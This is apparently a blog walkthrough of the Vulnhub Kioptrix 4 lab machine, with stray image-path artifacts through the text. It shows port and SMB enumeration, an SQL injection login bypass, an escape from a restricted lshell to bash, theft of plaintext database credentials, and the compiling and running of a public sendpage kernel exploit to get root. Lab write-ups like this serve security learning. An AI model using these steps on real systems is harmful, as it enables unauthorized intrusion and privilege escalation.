Booj thoughts on security

Vulnhub - Kioptrix 4

So we’ve reached Kioptrix #4. I felt much more confident this time than before, so whilst before I’ve had to rely on other walkthroughs to guide myself to an answer if I felt I wasn’t getting anywhere, here I resolved to spend as long as possible actually enumerating everything before I resorted to it.


As is tradition, Kioptrix #4 has been loaded up on our box, so lets work out it’s IP address. Networking on both boxes went to complete hell so I spent an embarassing amount of time debugging dhcp and dns issues this time.

root@kali:~# arp-scan -l
Interface: eth0, datalink type: EN10MB (Ethernet)
Starting arp-scan 1.9 with 256 hosts (  00:50:56:c0:00:01   VMware, Inc.    00:0c:29:51:24:d9   VMware, Inc.    00:50:56:fe:05:d2   VMware, Inc.

3 packets received by filter, 0 packets dropped by kernel
Ending arp-scan 1.9: 256 hosts scanned in 1.861 seconds (137.56 hosts/sec). 3 responded

Next port of call lets do an nmap scan.

root@kali:~# nmap -A
Starting Nmap 7.25BETA1 ( ) at 2017-04-21 16:47 BST
Nmap scan report forHost is up (0.00037s latency).
Not shown: 566 closed ports, 430filtered ports
22/tcp  open  ssh         OpenSSH 4.7p1 Debian 8ubuntu1.2 (protocol 2.0)
| ssh-hostkey:
|   1024 9b:ad:4f:f2:1e:c5:f2:39:14:b9:d3:a0:0b:e8:41:71 (DSA)
|_  2048 85:40:c6:d5:41:26:05:34:ad:f8:6e:f2:a7:6b:4f:0e (RSA)
80/tcp  open  http        Apache httpd 2.2.8 ((Ubuntu) PHP/5.2.4-2ubuntu5.6 with Suhosin-Patch)
|_http-server-header: Apache/2.2.8 (Ubuntu) PHP/5.2.4-2ubuntu5.6 with Suhosin-Patch
|_http-title: Site doesn't have a title (text/html).
139/tcp open  netbios-ssn Samba smbd 3.X - 4.X (workgroup: WORKGROUP)
445/tcp open  netbios-ssn Samba smbd 3.0.28a (workgroup: WORKGROUP)
MAC Address: 00:0C:29:51:24:D9 (VMware)
Device type: general purpose
Running: Linux 2.6.X
OS CPE: cpe:/o:linux:linux_kernel:2.6
OS details: Linux 2.6.9 - 2.6.33
Network Distance: 1 hop
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

Host script results:
|_nbstat: NetBIOS name: KIOPTRIX4, NetBIOS user: <unknown>, NetBIOS MAC: <unknown> (unknown)| smb-os-discovery:
|   OS: Unix (Samba 3.0.28a)
|   Computer name: Kioptrix4
|   NetBIOS computer name:
|   Domain name: localdomain
|   FQDN: Kioptrix4.localdomain
|_  System time: 2017-04-21T12:47:27-04:00
| smb-security-mode:
|   account_used: guest
|   authentication_level: user
|   challenge_response: supported
|_  message_signing: disabled (dangerous, but default)
|_smbv2-enabled: Server doesn't support SMBv2 protocol

1   0.37 ms

OS and Service detection performed. Please report any incorrect results at .
Nmap done: 1 IP address (1 host up) scanned in 21.49 seconds

Again, there’s an open ssh port and a http server. Further there were two samba servers running.

SMB AsideTo cut a long story short on these, I attempted to break in through these when other attempts were failing but didn’t really get anywhere, and honestly I got stuck trying to actually mount the samba share but I’ll include the commands I tried running if anyone wants to correct me or just as a reference for myself in the future. I don’t know if this was actually a viable exploit vector but I spent a while on it so just in case I have to do all this in the future.

root@kali:~# nmap --script smb-enum-shares .nse -p139
root@kali:~# enum4linux
root@kali:~# mount -t cifs -o user='',pass='',sec=ntlm //$ /mnt/point

Another Goat Website

This guy sure likes goats.

Shoutout to Shegs

I ran dirb on the directory before trying anything else.


---- Scanning URL: ----
+ (CODE:403|SIZE:330)
+ (CODE:200|SIZE:1255)+ (CODE:200|SIZE:1255)
+ (CODE:302|SIZE:0)
+ (CODE:302|SIZE:220)
+ (CODE:403|SIZE:335)
---- Entering directory: ----
(!) WARNING: Directory IS LISTABLE. No need to scan it.
    (Use mode '-w' if you want to scan it anyway)

---- Entering directory: ----
(!) WARNING: Directory IS LISTABLE. No need to scan it.
    (Use mode '-w' if you want to scan it anyway)

After looking around nothing looked easily exploitable so now seemed like a good time to try out some SQL injection. This one actually took me a while, as while I do have a general idea how it works actually crafting my own query was quite difficult.

With some help from some beginner guides I realised after going through all the error pages that the password field was injectable but the username field was not. The reason for this was the username field yielding urlslike\%27%20OR%20\%27\%27=\%27, which has the quotation marks escaped.

From the dirb results it was reasonable to assume that john was a user on the box so I tried that.

Username: john
Password: ‘ OR ‘’=

What the hell

Well, that’s the oddest user control panel I’ve ever seen, but what the hell, we got creds.

SSH of Doom

So I had creds for some useless web app, but hopefully password reuse is in full effect, so I attempted to SSH into the box. Lo and behold.root@kali:~# ssh -l john
The authenticity of host ' (' can't be established.
RSA key fingerprint isSHA256:3fqlLtTAindnY7CGwxoXJ9M2rQF6nn35SFMTVv56lww.
Are you sure you want to continue connecting (yes/no)? yes
Warning: Permanently added '' (RSA) to the list of known hosts.
john@'s password:
Welcome to LigGoat Security Systems - We are Watching
==Welcome LigGoat Employee ==
LigGoat Shell is in place so you  don'tscrew up
Type '?' or 'help' to get the list of allowed commands
john:~$ ?
cd  clear  echo  exit  help  ll  lpath  ls
john:~$ echo $PATH
*** forbidden path -> "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/usr/games"
*** You have 0 warning(s) left, before getting kicked out.
This incident has been reported.

So, looks like we’re heavily restricted, but we’re on the box at least.

This one had me stumped for absolutely ages to be honest, with certain results sending me down completely the wrong path.

john:~$ echo $SHELL
*** forbidden path -> "/bin/kshell"

From that I ended up thinking some really obscure shell program was installed and just spent absolutely ages on completely the wrong solution.john:~$ sudo
Traceback (most recent call last):
  File "/bin/kshell", line 27, in <module>
  File "/usr/lib/python2.5/site-packages/", line 1219, in main
  File "/usr/lib/python2.5/site-packages/", line 410, in cmdloop
    stop = self.onecmd(line)
  File "/usr/lib/python2.5/site-packages/", line 531, in onecmd
    func = getattr(self, 'do_' + cmd)
  File "/usr/lib/python2.5/site-packages/", line 132, in __getattr__
    if self.check_secure(self.g_line, self.conf['strict']) == 1:
  File"/usr/lib/python2.5/site-packages/", line 247, in check_secure
    if cmdargs[1] not in self.conf['sudo_commands'] and cmdargs:
TypeError: 'NoneType' object is unsubscriptable
Connection to closed.

And then this came up. To be honest it took a bit of nudging and very careful googling to give me a hint that I was going in the wrong direction.

There is an exploit for this version of lshell, and while I could get it to work escaping the shell, I couldn’t wget any wanted scripts or do anything of any real use on the box without it hanging. However, we know we can input commands, so with some more careful googling:

root@kali:~/Documents# ssh -l john
john@'s password:
Welcome to LigGoat Security Systems - We are Watching
== Welcome LigGoat Employee ==
LigGoat Shell is in place so you  don't screw up
Type '?' or 'help' to get the list of allowed commands
john:~$ echo os.system('/bin/bash')

Well that works, and now we have a shell but we need to escalate our privileges.

So I thought it would be a good idea to check out /var/www/ and see if I could harvest credentials. Checklogin.php had the database ones we needed.

$host="localhost"; // Host name$username="root"; // Mysql username
$password=""; // Mysql password
$db_name="members"; // Database name
$tbl_name="members"; // Table name

So I loaded up mysql and sought after some credentials. In the members table we get what we’re looking for.

mysql> SELECT * FROM members;
| id | username | password              |
|  1 | john     | MyNameIsJohn          |
|  2 | robert   | ADGAdsafdfwt4gadfga== |
2 rows in set (0.00 sec)

So I hoped maybe I could use roberts credentials to get a higher level of privilege, but alas he has exactly the same restrictions as john.


After a lot of searching I decided to see if a kernel exploit existed.

robert@Kioptrix4:/$ cat /etc/*-release

Linux version 2.6.24-24-server
robert@Kioptrix4:/$ uname -a
Linux Kioptrix4 2.6.24-24-server #1 SMP Tue Jul 7 20:21:17 UTC 2009 i686 GNU/Linux

So it’s an x86 linux won version 2.6.24, I wonder if there’s an exploit around (It’s old so probably). In the end, after trying a few, this sendpage exploit ended up working.root@kali:~# sudo apt-get install libc6-dev-i386
kali:~# cp /usr/share/exploitdb/platforms/linux/local/9545.c .
root@kali:~# gcc 9545.c -o newexp -m32

I then opened up a python server on the directory and wget’d it to the tmp directory.

robert@Kioptrix4:/tmp$ wget
           => `newexp'
Connecting to connected.
HTTP request sent, awaiting response... 200 OK
Length: 7,944 (7.8K) [application/octet-stream]

100%[===>] 7,944         --.--K/s

16:45:35 (1.05 GB/s) - `newexp' saved [7944/7944]robert@Kioptrix4:/tmp$ ls
exp_12  exp2  newexp
robert@Kioptrix4:/tmp$ chmod 777 newexp
robert@Kioptrix4:/tmp$ ./newexp
# id
uid=0(root) gid=0(root) groups=1002(robert)

Yay, we got root!

# cat congrats.txt
You've gotroot.

There is more then one way to get root on this system. Try and find them.
I've only tested two (2) methods, but it doesn't mean there aren't more.
As always there's an easy way, and a not so easy way to pop this box.
Look for other methods to get root privileges other than running an exploit.

It took a while to makethis. For one it's not as easy as it may look, and
also work and family life are my priorities. Hobbies are low on my list.
Really hope you enjoyed this one.

If you haven't already, check out the other VMs available on:

Thanks for playing,

This was an absolutely fantastic box and I feel like I learnt a tonne goingthrough it. Now on to Kioptrix5.

comments powered by Disqus